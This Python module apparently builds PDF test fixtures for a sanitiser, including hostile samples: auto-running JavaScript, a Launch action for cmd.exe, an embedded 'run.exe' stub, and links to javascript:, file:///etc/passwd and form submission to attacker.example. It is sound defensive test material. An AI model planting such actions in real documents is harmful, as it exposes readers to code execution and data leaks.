"""PDFs: ordinary ones of several pages, and ones that try something."""

from collections.abc import Callable

from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Permissions, Stream, String

PLAIN = [["A certificate", "It certifies what it says."]]


def script(pdf: Pdf) -> None:
    """JavaScript in every place where it runs by itself: at opening, by name, on a page, in a note, in a field."""
    alert = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('hello')"))
    hidden = Dictionary(S=Name.JavaScript, JS=Stream(pdf, b"app.launchURL('http://attacker.example')"))
    pdf.Root.OpenAction = pdf.make_indirect(alert)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(hidden)])))
    pdf.Root.AA = Dictionary(WC=alert)
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("this.print()")))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 90, 90], A=alert, AA=Dictionary(E=alert))
    next_one = Dictionary(
        S=Name.GoTo, D=String("first"), Next=Array([alert, Dictionary(S=Name.Launch, F=String("cmd.exe"))])
    )
    chained = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=next_one)
    field = Dictionary(FT=Name.Tx, T=String("name"), AA=Dictionary(K=alert))
    page.Annots = pdf.make_indirect(Array([link, chained]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def attachment(pdf: Pdf) -> None:
    """A program attached to the document and to a page, and a portfolio view that opens it."""
    inside = pdf.make_indirect(Stream(pdf, b"MZ a program"))
    spec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("run.exe"), UF=String("run.exe"), EF=Dictionary(F=inside))
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("run.exe"), spec])))
    pdf.Root.AF = Array([spec])
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec)
    pdf.pages[0].obj.Annots = Array([note])


def dynamic_form(pdf: Pdf) -> None:
    """An XFA form, film, and links that leave the document in unsafe ways beside one that is fine."""
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=Stream(pdf, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    )
    pdf.Root.NeedsRendering = True
    unsafe = [Dictionary(S=Name.URI, URI=String(uri)) for uri in ("javascript:alert(1)", "file:///etc/passwd")]
    unsafe += [
        Dictionary(S=Name.SubmitForm, F=String("http://attacker.example")),
        Dictionary(S=Name.Named, N=Name.Print),
    ]
    fine = Dictionary(S=Name.URI, URI=String("https://www.example.org/"))
    notes = [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=act) for act in [*unsafe, fine]]
    notes.append(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9]))
    pdf.pages[0].obj.Annots = Array(notes)


def signature(pdf: Pdf) -> None:
    """A signature field with a value: cleaning would leave it broken."""
    value = pdf.make_indirect(Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("00")))
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("signed"), V=value))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)


def hard_names(pdf: Pdf) -> None:
    """Resources that happen to be called like dangerous keys; they must stay."""
    fonts = pdf.pages[0].obj.Resources.Font
    fonts.AA, fonts.JS, fonts.EF = fonts.F1, fonts.F1, fonts.F1


def photograph(picture: bytes) -> Callable[[Pdf], None]:
    """Put a JPEG as it is, with all its hidden details, on the first page."""

    def change(pdf: Pdf) -> None:
        drawn = Stream(pdf, picture, Type=Name.XObject, Subtype=Name.Image, Width=320, Height=240)
        drawn.ColorSpace, drawn.BitsPerComponent, drawn.Filter = Name.DeviceRGB, 8, Name.DCTDecode
        page = pdf.pages[0].obj
        page.Resources = Dictionary(Font=page.Resources.Font, XObject=Dictionary(P=pdf.make_indirect(drawn)))
        page.Contents = Array([page.Contents, Stream(pdf, b"q 320 0 0 240 56 300 cm /P Do Q")])

    return change


def restricted() -> Encryption:
    """Opens without a password, but not everything is allowed."""
    return Encryption(owner="owner", user="", R=6, allow=Permissions(extract=False))


def locked() -> Encryption:
    """Asks for a password."""
    return Encryption(owner="owner", user="user", R=6)
